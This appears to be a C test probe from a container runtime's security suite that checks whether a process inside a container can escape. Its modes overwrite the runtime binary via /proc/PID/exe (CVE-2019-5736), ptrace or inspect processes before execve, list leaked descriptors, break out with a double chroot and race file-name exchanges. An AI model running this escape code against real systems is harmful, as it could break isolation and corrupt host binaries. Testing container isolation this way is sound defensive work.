/* Attacks on the moment at which a program enters a container, by one that is inside already.
 *
 * entry exe SUFFIX MS   for every process whose /proc/PID/exe ends in SUFFIX: keep it open, try to write to it for as
 *                       long as we run, which is MS milliseconds or until /tmp/stop is there (CVE-2019-5736).
 * entry window MS       for every new process: whatever of it can be read before its execve (CVE-2016-9962).
 * entry fds             the descriptors and the working directory that this process has (CVE-2024-21626).
 * entry chroot          the double chroot: "inside" or "outside" of the root that we had.
 * entry connect PATH..  connect to unix sockets, "@" first for an abstract one: "<path> ok" or "<path> <errno>".
 * entry key NAME        search the session keyring: "found" or the errno.
 * entry caps            the effective capabilities, in hexadecimal.
 * entry swap A B MS      exchange two names again and again, for MS milliseconds or until /tmp/stop is there: how often.
 * entry open PATH..     open for reading: "<path> ok" or "<path> <errno>".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define KEPT_MAX 64

static long now_ms(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static ssize_t link_of(const char *path, char *to, size_t size) {
    ssize_t length = readlink(path, to, size - 1);
    to[length < 0 ? 0 : length] = 0;
    return length;
}

static int ends(const char *text, const char *suffix) {
    size_t length = strlen(text), tail = strlen(suffix);
    return length >= tail && !strcmp(text + length - tail, suffix);
}

/* The next process that is neither ourselves nor pid 1; 0 at the end of a round. */
static pid_t next_pid(DIR *proc) {
    struct dirent *entry;
    while ((entry = readdir(proc))) {
        pid_t pid = atoi(entry->d_name);
        if (pid > 1 && pid != getpid())
            return pid;
    }
    rewinddir(proc);
    return 0;
}

static int overwrite(const char *suffix, long ms) {
    int kept[KEPT_MAX], count = 0;
    long seen = 0, opened_to_write = 0, unsealed = 0, written = 0, end = now_ms() + ms;
    DIR *proc = opendir("/proc");
    char path[64], target[4096];
    printf("ready\n");
    while (now_ms() < end && access("/tmp/stop", F_OK)) {
        pid_t pid = next_pid(proc);
        if (pid) {
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (link_of(path, target, sizeof target) > 0 && ends(target, suffix)) {
                seen++;
                int fd = open(path, O_WRONLY);
                if (fd >= 0) {
                    opened_to_write++;
                    close(fd);
                }
                fd = count < KEPT_MAX ? open(path, O_RDONLY) : -1;
                if (fd >= 0) {
                    int seals = fcntl(fd, F_GET_SEALS);
                    unsealed += seals < 0 || (seals & (F_SEAL_WRITE | F_SEAL_SEAL)) != (F_SEAL_WRITE | F_SEAL_SEAL);
                    kept[count++] = fd;
                    if (seen == 1)
                        printf("seen\n");
                }
            }
            continue;
        }
        for (int i = 0; i < count; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
            int fd = open(path, O_WRONLY);
            if (fd >= 0) {
                written += pwrite(fd, "#!", 2, 0) == 2;
                close(fd);
            }
        }
    }
    printf("seen=%ld opened=%ld unsealed=%ld written=%ld\n", seen, opened_to_write, unsealed, written);
    return 0;
}

static int is_ours(const char *exe) { return !strncmp(exe, "/bin/", 5); }

static int window(long ms) {
    long touched = 0, leaks = 0, end = now_ms() + ms;
    DIR *proc = opendir("/proc");
    char path[64], text[65536];
    printf("ready\n");
    while (now_ms() < end && access("/tmp/stop", F_OK)) {
        pid_t pid = next_pid(proc);
        if (!pid)
            continue;
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        if (link_of(path, text, sizeof text) > 0) {
            touched++;
            if (!is_ours(text)) {
                leaks++;
                printf("leak exe %s\n", text);
            }
        }
        snprintf(path, sizeof path, "/proc/%d/maps", pid);
        int fd = open(path, O_RDONLY);
        if (fd >= 0) {
            ssize_t length = read(fd, text, sizeof text - 1);
            text[length < 0 ? 0 : length] = 0;
            if (strstr(text, "memfd:") || strstr(text, "zos-init")) {
                leaks++;
                printf("leak maps\n");
            }
            close(fd);
        }
        for (int number = 3; number < 16; number++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
            if (link_of(path, text, sizeof text) > 0) {
                leaks++;
                printf("leak fd %d %s\n", number, text);
            }
        }
        if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            /* Whoever may trace may look; so what it is now is what it was when it let us. */
            if (link_of(path, text, sizeof text) > 0 && !is_ours(text)) {
                leaks++;
                printf("leak ptrace %s\n", text);
            }
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            int status;
            if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
                ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    printf("touched=%ld leaks=%ld\n", touched, leaks);
    return 0;
}

static int fds(void) {
    char path[64], target[4096];
    for (int fd = 0; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            link_of(path, target, sizeof target);
            printf("%d %s\n", fd, target);
        }
    if (getcwd(target, sizeof target))
        printf("cwd %s\n", target);
    return 0;
}

static int double_chroot(void) {
    struct stat before, after;
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (here < 0 || fstat(here, &before) || (mkdir("/tmp/jail", 0700) && errno != EEXIST) || chroot("/tmp/jail"))
        return 1;
    if (fchdir(here))
        return 1;
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return 1;
    if (chroot(".") || stat("/", &after))
        return 1;
    printf("%s\n", before.st_dev == after.st_dev && before.st_ino == after.st_ino ? "inside" : "outside");
    return 0;
}

static int try_connect(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(path);
    if (length >= sizeof address.sun_path) {
        errno = ENAMETOOLONG;
        return -1;
    }
    memcpy(address.sun_path, path, length);
    if (*path == '@')
        address.sun_path[0] = 0;
    int types[] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
    for (int i = 0; i < 3; i++) {
        int sock = socket(AF_UNIX, types[i], 0);
        if (!connect(sock, (void *)&address, offsetof(struct sockaddr_un, sun_path) + length))
            return 0;
        if (errno != EPROTOTYPE)
            break;
    }
    return -1;
}

static int swap(const char *a, const char *b, long ms) {
    long swapped = 0, end = now_ms() + ms;
    printf("ready\n");
    while (now_ms() < end && access("/tmp/stop", F_OK)) {
        if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)) {
            printf("%s\n", strerrorname_np(errno));
            return 1;
        }
        swapped++;
    }
    printf("swapped=%ld\n", swapped);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IOLBF, 0);
    const char *mode = argc > 1 ? argv[1] : "";
    if (!strcmp(mode, "exe") && argc == 4)
        return overwrite(argv[2], atol(argv[3]));
    if (!strcmp(mode, "window") && argc == 3)
        return window(atol(argv[2]));
    if (!strcmp(mode, "swap") && argc == 5)
        return swap(argv[2], argv[3], atol(argv[4]));
    if (!strcmp(mode, "fds"))
        return fds();
    if (!strcmp(mode, "chroot"))
        return double_chroot();
    if (!strcmp(mode, "connect") || !strcmp(mode, "open")) {
        for (int i = 2; i < argc; i++) {
            int got = *mode == 'c' ? try_connect(argv[i]) : open(argv[i], O_RDONLY | O_NONBLOCK);
            printf("%s %s\n", argv[i], got >= 0 ? "ok" : strerrorname_np(errno));
        }
        return 0;
    }
    if (!strcmp(mode, "caps")) {
        char line[256];
        FILE *status = fopen("/proc/self/status", "r");
        while (status && fgets(line, sizeof line, status))
            if (!strncmp(line, "CapEff:", 7))
                printf("%s", line);
        return 0;
    }
    if (!strcmp(mode, "key") && argc == 3) {
        long got = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* session */, "user", argv[2], 0);
        printf("%s\n", got >= 0 ? "found" : strerrorname_np(errno));
        return 0;
    }
    return 2;
}
